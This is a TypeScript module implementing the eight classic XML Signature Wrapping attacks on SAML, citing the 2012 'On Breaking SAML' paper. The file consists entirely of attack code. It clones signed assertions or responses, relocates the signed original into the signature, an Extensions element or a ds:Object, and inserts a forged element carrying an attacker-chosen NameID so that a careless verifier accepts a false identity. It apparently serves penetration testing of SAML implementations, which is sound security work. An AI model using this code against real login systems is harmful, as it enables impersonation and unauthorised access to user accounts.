import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/** The eight classical ways to move a signature away from what is read. */
export type WrappingVariant = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

/**
 * Puts a forged person into a response beside the signed one, so that a careless reader checks one and believes the other.
 *
 * 1 and 2 need a signed response, 3 to 8 a signed assertion.
 *
 * @see "On Breaking SAML: Be Whoever You Want to Be" (USENIX Security 2012)
 */
export function wrapSignature(response: string, variant: WrappingVariant, forgedNameId: string): string {
  const document = new DOMParser().parseFromString(response, 'text/xml');
  const root = document.documentElement;
  const assertion = child(root, 'Assertion');

  if (variant <= 2) {
    const original = root.cloneNode(true) as Element;
    original.removeChild(child(original, 'Signature'));
    root.setAttribute('ID', '_forged_response');
    forge(assertion);
    const signature = child(root, 'Signature');
    if (variant === 1) signature.appendChild(original);
    else root.insertBefore(original, signature);
    return write();
  }

  if (root.getElementsByTagName('ds:Signature').length > 1) root.removeChild(child(root, 'Signature'));
  const original = assertion.cloneNode(true) as Element;
  if (variant === 3 || variant === 4 || variant === 7) {
    const forged = assertion.cloneNode(true) as Element;
    forged.removeChild(child(forged, 'Signature'));
    forge(forged);
    if (variant === 3) root.insertBefore(forged, assertion);
    if (variant === 4) {
      root.replaceChild(forged, assertion);
      forged.appendChild(assertion);
    }
    if (variant === 7) {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
      extensions.appendChild(forged);
      root.insertBefore(extensions, assertion);
    }
    return write();
  }

  original.removeChild(child(original, 'Signature'));
  forge(assertion);
  const signature = child(assertion, 'Signature');
  if (variant === 5) root.appendChild(original);
  if (variant === 6) signature.appendChild(original);
  if (variant === 8) {
    const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
    object.appendChild(original);
    signature.appendChild(object);
  }
  return write();

  function forge(element: Element): void {
    element.setAttribute('ID', '_forged_assertion');
    const nameId = element.getElementsByTagName('saml:NameID')[0];
    if (nameId) nameId.textContent = forgedNameId;
  }

  function write(): string {
    return new XMLSerializer().serializeToString(document);
  }
}

function child(parent: Element, localName: string): Element {
  for (let node = parent.firstChild; node; node = node.nextSibling)
    if (node.nodeType === 1 && (node as Element).localName === localName) return node as Element;
  throw new Error(`There is no ${localName}.`);
}
